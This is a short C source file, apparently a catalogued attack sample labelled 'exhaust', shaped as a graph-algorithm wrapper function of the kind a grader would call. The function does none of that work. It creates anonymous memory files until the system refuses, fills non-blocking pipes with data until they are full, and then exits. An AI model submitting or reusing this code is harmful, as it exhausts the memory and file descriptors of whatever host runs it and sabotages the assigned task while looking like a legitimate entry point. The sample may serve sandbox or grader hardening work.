// attack: exhaust
// root: resources
// what: keeps data in files without a name and in full pipes, where no process seems to own it
// list: 9
#include <fcntl.h>
#include <sys/mman.h>
#include <unistd.h>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  static char data[1 << 16];
  int ends[2];
  while (memfd_create("hidden", 0) >= 0) {
  }
  while (pipe2(ends, O_NONBLOCK) == 0)
    while (write(ends[1], data, sizeof data) > 0) {
    }
  _exit(1);
}
